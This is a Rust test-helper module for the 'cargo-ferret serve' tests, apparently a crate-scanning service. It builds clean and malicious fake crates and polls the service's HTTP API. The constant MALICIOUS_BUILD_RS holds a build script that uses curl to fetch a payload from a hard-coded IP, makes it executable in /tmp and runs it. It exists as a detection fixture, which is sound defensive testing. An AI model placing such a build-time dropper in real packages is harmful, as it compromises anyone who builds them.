//! Shared helpers of the `serve_*` tests: run `cargo-ferret serve` against ferret-testkit's
//! fake crates.io and talk to it over HTTP. Included by those tests with `#[path]`.
#![allow(dead_code)]

use ferret_testkit::{CrateBuilder, FakeRegistry};
use serde_json::Value;
use std::io::{BufRead, BufReader};
use std::path::Path;
use std::process::{Child, Command, Stdio};
use std::sync::mpsc;
use std::time::{Duration, Instant};

pub const MALICIOUS_BUILD_RS: &str = r#"use std::process::Command;
fn main() {
    let url = "http://45.61.160.20:8080/stage2";
    Command::new("curl").args(["-sL", url, "-o", "/tmp/.cache-upd"]).status().unwrap();
    Command::new("chmod").args(["+x", "/tmp/.cache-upd"]).status().unwrap();
    Command::new("/tmp/.cache-upd").spawn().unwrap();
}
"#;

fn manifest(name: &str, version: &str, build: bool, description: &str) -> String {
    format!(
        "[package]\nname = \"{name}\"\nversion = \"{version}\"\nedition = \"2021\"\ndescription = \"{description}\"\n{}",
        if build { "build = \"build.rs\"\n" } else { "" }
    )
}

pub fn clean_crate(name: &str, version: &str) -> Vec<u8> {
    CrateBuilder::new(name, version)
        .file("Cargo.toml", manifest(name, version, false, "Small arithmetic helpers"))
        .file("src/lib.rs", "/// Adds.\npub fn add(a: u32, b: u32) -> u32 { a + b }\n")
        .build()
}

pub fn malicious_crate(name: &str, version: &str) -> Vec<u8> {
    CrateBuilder::new(name, version)
        .file("Cargo.toml", manifest(name, version, true, "Build helpers"))
        .file("build.rs", MALICIOUS_BUILD_RS)
        .file("src/lib.rs", "pub fn add(a: u32, b: u32) -> u32 { a + b }\n")
        .build()
}

/// A running `cargo-ferret serve`, killed (SIGKILL) when dropped.
pub struct Served {
    child: Child,
    pub base: String,
}

impl Served {
    /// Start the service on a free port against `reg`, with its database in `dir`.
    pub fn start(reg: &FakeRegistry, dir: &Path, extra: &[&str]) -> Served {
        let mut cmd = Command::new(env!("CARGO_BIN_EXE_cargo-ferret"));
        cmd.arg("serve")
            .args(["--index", &reg.index_url(), "--feed", &reg.feed_url()])
            .arg("--db")
            .arg(dir.join("serve.db"))
            .arg("--cache-dir")
            .arg(dir.join("cache"))
            .args(["--listen", "127.0.0.1:0", "--poll", "1", "--workers", "2"])
            .args(extra)
            .env("FERRET_LOG", "warn")
            .env_remove("FERRET_TOKEN")
            .stdout(Stdio::null())
            .stderr(Stdio::piped());
        let mut child = cmd.spawn().expect("cargo-ferret runs");
        let stderr = child.stderr.take().unwrap();
        let (tx, rx) = mpsc::channel();
        std::thread::spawn(move || {
            for line in BufReader::new(stderr).lines().map_while(Result::ok) {
                eprintln!("[serve] {line}");
                let _ = tx.send(line);
            }
        });
        let deadline = Instant::now() + Duration::from_secs(120);
        loop {
            let left = deadline.saturating_duration_since(Instant::now());
            let line = rx.recv_timeout(left).unwrap_or_else(|_| panic!("cargo-ferret serve did not start"));
            if let Some(rest) = line.split("listening on ").nth(1) {
                let base = rest.split_whitespace().next().unwrap().to_string();
                return Served { child, base };
            }
        }
    }

    /// `kill -9`.
    pub fn kill9(&mut self) {
        let _ = self.child.kill();
        let _ = self.child.wait();
    }
}

impl Drop for Served {
    fn drop(&mut self) {
        self.kill9();
    }
}

pub fn http() -> reqwest::blocking::Client {
    reqwest::blocking::Client::builder().redirect(reqwest::redirect::Policy::none()).build().unwrap()
}

pub fn get_json(base: &str, path: &str) -> Value {
    http().get(format!("{base}{path}")).send().unwrap().json().unwrap()
}

/// Poll `/api/versions?include_pending=true` until `pred` holds (at most 120 s).
pub fn wait_for(base: &str, what: &str, pred: impl Fn(&[Value]) -> bool) -> Vec<Value> {
    let start = Instant::now();
    loop {
        let v = get_json(base, "/api/versions?include_pending=true");
        let list = v["versions"].as_array().cloned().unwrap_or_default();
        if pred(&list) {
            return list;
        }
        assert!(start.elapsed() < Duration::from_secs(120), "timed out waiting for {what}: {v:#}");
        std::thread::sleep(Duration::from_millis(200));
    }
}

pub fn all_done(list: &[Value], n: usize) -> bool {
    list.len() == n && list.iter().all(|v| v["state"] == "done" || v["state"] == "failed")
}
